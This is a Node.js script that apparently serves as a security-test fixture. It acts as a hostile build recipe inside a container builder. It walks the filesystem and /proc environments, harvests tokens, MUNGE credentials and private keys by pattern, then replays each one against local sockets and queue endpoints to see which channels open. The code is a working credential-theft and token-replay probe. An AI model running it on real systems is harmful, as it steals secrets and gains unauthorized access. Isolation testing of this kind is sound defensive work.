// What a recipe's root can find out on its builder, a line each: for recipe-as-spy.test.ts, which puts it into a definition.
import { lstatSync, readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';
import { connect as connectTls } from 'node:tls';

const [marker = '', ...queues] = process.argv.slice(2);
const secrets = new Set();
const sockets = [];
const say = (...words) => console.log('SPY', ...words);

/** What looks as if it opened something: tokens, keys, long random words. */
function look(path, bytes) {
	const text = bytes.toString('latin1');
	if (text.includes(marker)) say('marker', path);
	for (const [word] of text.matchAll(
		/cbt_[\w-]{20,}|MUNGE:[^\0\s]{20,}|-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]{0,400}/g,
	)) {
		secrets.add(word);
		say('secret', path, JSON.stringify(word));
	}
	if (/bootstrap|lease|control|session|container-builder/.test(path + text.slice(0, 10_000)))
		for (const [word] of text.slice(0, 100_000).matchAll(/(?<![\w-])[\w-]{43}(?![\w-])/g)) secrets.add(word);
}

function walk(directory, depth = 0) {
	let names = [];
	try {
		names = readdirSync(directory);
	} catch {
		return;
	}
	for (const name of names) {
		const path = `${directory === '/' ? '' : directory}/${name}`;
		if (
			/^\/(sys|dev\/pts|usr\/(share|lib)|proc\/(?!\d+\/(environ|cmdline|root|fd)))/.test(path) &&
			!/container-builder/.test(path)
		)
			if (!/^\/proc\/\d+$/.test(path)) continue;
		try {
			const found = lstatSync(path);
			if (found.isSocket()) sockets.push(path);
			else if (found.isDirectory() && depth < 12) walk(path, depth + 1);
			else if (found.isFile() && found.size < 2 ** 21) look(path, readFileSync(path));
		} catch {
			// It may not be read, or is gone.
		}
	}
}

/** Asks for a channel; resolves with the status line, or with why there is none. */
function ask(open, channel, token) {
	return new Promise((resolve) => {
		const socket = open();
		const end = (result) => {
			socket.destroy();
			resolve(result);
		};
		socket.setTimeout(3_000, () => end('silence'));
		socket.on('error', (error) => end(error.code));
		socket.on('data', (data) => end(data.toString('latin1').split('\r\n')[0]));
		socket.on('close', () => end('closed'));
		const lines = [
			`GET /container-builder/v1/${channel} HTTP/1.1`,
			'Host: queue',
			'Upgrade: websocket',
			'Connection: Upgrade',
			'Sec-WebSocket-Version: 13',
			'Sec-WebSocket-Protocol: container-builder',
			`Sec-WebSocket-Key: ${Buffer.alloc(16, 1).toString('base64')}`,
			...(token === undefined ? [] : [`Authorization: Bearer ${token}`]),
		];
		socket.write(`${lines.join('\r\n')}\r\n\r\n`);
	});
}

walk('/');
for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
	for (const name of ['environ', 'cmdline']) {
		try {
			const bytes = readFileSync(`/proc/${pid}/${name}`);
			look(`/proc/${pid}/${name}`, bytes);
			if (name === 'cmdline') say('process', bytes.toString().replaceAll('\0', ' ').trim().slice(0, 200));
		} catch {
			// It may not be read, or is gone.
		}
	}
}
const words = [undefined, ...[...secrets].slice(0, 200)];
say('candidates', words.length - 1);
for (const path of sockets) say('socket', path);
const opens = [
	...sockets.map((path) => [path, () => connect(path)]),
	...queues.map((queue) => {
		const { hostname, port } = new URL(queue);
		return [queue, () => connectTls({ host: hostname, port: Number(port), rejectUnauthorized: false })];
	}),
];
for (const [name, open] of opens) {
	for (const channel of ['queue', 'relay']) {
		for (const word of words) {
			const answer = await ask(open, channel, word);
			if (word === undefined || /101/.test(answer))
				say('asked', name, channel, /101/.test(answer) ? 'OPENED' : answer);
			if (!/^HTTP/.test(answer)) break;
		}
	}
}
